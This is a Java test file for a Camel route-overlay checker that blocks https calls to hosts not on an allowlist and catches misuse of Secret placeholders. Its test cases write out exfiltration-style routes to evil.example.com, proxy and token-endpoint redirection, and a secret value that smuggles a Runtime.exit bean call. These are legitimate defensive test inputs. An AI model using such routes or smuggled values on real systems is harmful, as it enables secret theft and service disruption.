package dev.dragoman.camel.https;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.dragoman.camel.CamelRuntime;
import dev.dragoman.camel.Overlays;
import dev.dragoman.camel.StartRefused;
import dev.dragoman.camel.capability.StepLines;
import dev.dragoman.camel.check.Diagnostic;
import dev.dragoman.camel.check.OverlayCheck;
import dev.dragoman.settings.AllowedHosts;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What overlays may not say of https and of Secrets, each at its line, before anything is sent. */
class HttpsCheckTest {
    private static final String BUILT_IN = "classpath:overlaytest/*.camel.yaml";
    private static final String HOST = "hooks.example.com:8443";

    @TempDir private Path directory;
    private final Map<String, String> secrets = new HashMap<>();

    private HttpsAccess access() {
        return new HttpsAccess(
                AllowedHosts.of(AllowedHosts.VARIABLE, HOST),
                HttpsAccess.none().tls(),
                reference -> {
                    var value = secrets.get(reference.text());
                    if (value == null) {
                        throw new SecretReader.Unreadable(
                                "there is no Secret " + reference.text().replaceAll("/.*", ""));
                    }
                    return value;
                });
    }

    private void route(String steps) throws Exception {
        Files.writeString(
                directory.resolve("hook.camel.yaml"),
                """
                - route:
                    id: hook
                    from:
                      uri: direct:hook
                      steps:
                %s"""
                        .formatted(steps.indent(8)));
    }

    private List<String> problems(HttpsAccess access) {
        return new OverlayCheck(BUILT_IN, Map.of(), Map.of(), access, List.of())
                .check(new Overlays(List.of(directory))).stream()
                        .filter(problem -> !problem.warning())
                        .map(Diagnostic::toString)
                        .toList();
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(
            delimiter = '|',
            textBlock =
                    """
                    foreign host  | 6 | - to: https://evil.example.com/SECRET      | host evil.example.com is not allowed: DRAGOMAN_HTTPS_HOSTS has THERE. Add the host to this setting
                    without //    | 6 | - to: https:evil.example.com/SECRET        | host evil.example.com is not allowed
                    scheme twice  | 6 | - to: https://https://THERE/SECRET          | host https
                    user info     | 6 | - to: https://THERE@evil.example.com/SECRET | host evil.example.com is not allowed
                    other port    | 6 | - to: https://localhost/SECRET             | host localhost is not allowed
                    long form     | 7 | - wireTap:~  uri: https://evil.example.com/SECRET | host evil.example.com is not allowed
                    enriched      | 7 | - enrich:~  constant: https://evil.example.com/SECRET | host evil.example.com is not allowed
                    computed      | 6 | - toD: "https://${header.h}/SECRET"        | the host of this address is computed
                    placeholder   | 6 | - to: "https://{{secret:a/b}}/SECRET"      | the host of this address is computed
                    no host       | 6 | - to: "https:///SECRET"                    | no readable host
                    plain http    | 6 | - to: http://THERE/SECRET                   | scheme 'http' is not allowed
                    polled        | 6 | - poll: https://THERE/SECRET                | https has no consumer
                    redirects     | 6 | - to: https://THERE/?followRedirects=true   | the option 'followRedirects' of https is not allowed in routes; allowed are connectTimeout, httpMethod
                    a proxy       | 6 | - to: https://THERE/?proxyHost=evil&proxyPort=1 | the option 'proxy
                    tokens from   | 6 | - to: https://THERE/?oauth2TokenEndpoint=https://evil | the option 'oauth2TokenEndpoint' of https is not allowed
                    the client's  | 6 | - to: https://THERE/?httpClient.redirectsEnabled=true | the option 'httpClient.redirectsEnabled' of https is not allowed
                    serialized    | 6 | - to: https://THERE/?transferException=true | the option 'transferException' of https is not allowed
                    for ever      | 6 | - to: https://THERE/?responseTimeout=0      | at least 1 millisecond
                    default value | 6 | - log: "{{secret:a/b:x}}"                  | for a hidden value, write {{secret:NAME/KEY}}, {{azure:NAME}}
                    optional      | 6 | - to: "{{?secret:a/b}}"                    | for a hidden value, write {{secret:NAME/KEY}}
                    Camel's own   | 6 | - log: "{{secret-binary:a/b}}"             | no other function reads Secrets, ConfigMaps or Key Vaults
                    ConfigMaps    | 6 | - log: "{{configmap:a/b}}"                 | no other function reads
                    by simple     | 6 | - log: "${properties:secret:a/b}"          | for a hidden value
                    a text        | 7 | - setBody:~  simple: "resource:https://evil.example.com/x" | resource: is not allowed in an overlay
                    no Secret     | 6 | - to: "{{secret:none/b}}"                  | {{secret:none/b}}: there is no Secret none
                    in a header   | 7 | - setHeader:~  { name: Authorization, constant: "Bearer {{secret:none/b}}" } | there is no Secret none
                    a Key Vault's | 6 | - log: "{{azure:a_b}}"                     | for a hidden value, write {{secret:NAME/KEY}}, {{azure:NAME}}
                    with default  | 6 | - log: "{{azure:entry:x}}"                 | without a default
                    no entry      | 6 | - to: "{{azure:none#url}}"                 | {{azure:none#url}}: there is no Secret none#url
                    no address    | 6 | - to: "{{azure:entry}}"                    | {{azure:entry}}: the value is not an https address
                    too short     | 6 | - log: "{{secret:a/short}}"               | shorter than 5 characters
                    bean by it    | 6 | - to: "{{secret:a/bean}}"                  | {{secret:a/bean}}: the value is not an https address
                    foreign by it | 6 | - to: "{{secret:a/foreign}}"               | {{secret:a/foreign}}: host evil.example.com is not allowed
                    """)
    void mistakesAreFoundAtTheirLine(String why, int line, String step, String reason)
            throws Exception {
        secrets.put("a/b", "some-value");
        secrets.put("a/short", "true");
        secrets.put("entry", "some-SECRET");
        secrets.put("a/bean", "bean:java.lang.Runtime?method=exit-SECRET");
        secrets.put("a/foreign", "https://evil.example.com/SECRET");
        route(step.replace("~", "\n  ").replace("THERE", HOST));
        assertThat(problems(access()))
                .as(why)
                .anySatisfy(
                        problem ->
                                assertThat(problem)
                                        .contains("hook.camel.yaml:" + line + ": ")
                                        .contains(reason.replace("THERE", HOST)))
                .noneSatisfy(problem -> assertThat(problem).contains("SECRET"));
    }

    @Test
    void aMissingSecretEndsTheStart() throws Exception {
        route("- to: \"{{secret:none/url}}\"");
        try (var runtime =
                new CamelRuntime(
                        new Overlays(List.of(directory)),
                        Map.of(),
                        BUILT_IN,
                        Map.of(),
                        Map.of(),
                        access(),
                        new StepLines())) {
            assertThatThrownBy(runtime::start)
                    .isInstanceOf(StartRefused.class)
                    .hasMessageContaining(
                            "hook.camel.yaml:6: {{secret:none/url}}: there is no Secret")
                    .hasMessageNotContaining("\n");
        }
    }

    @Test
    void withoutAClusterEverySecretIsThere() throws Exception {
        route(
                """
                - setHeader: { name: Authorization, constant: "Bearer {{secret:teams/token}}" }
                - to: { uri: "{{secret:teams/url}}", parameters: { httpMethod: POST } }
                - to: https://%s/{{secret:teams/path}}
                """
                        .formatted(HOST));
        assertThat(
                        problems(
                                HttpsAccess.withoutCluster(
                                        AllowedHosts.of(AllowedHosts.VARIABLE, HOST))))
                .isEmpty();
    }
}
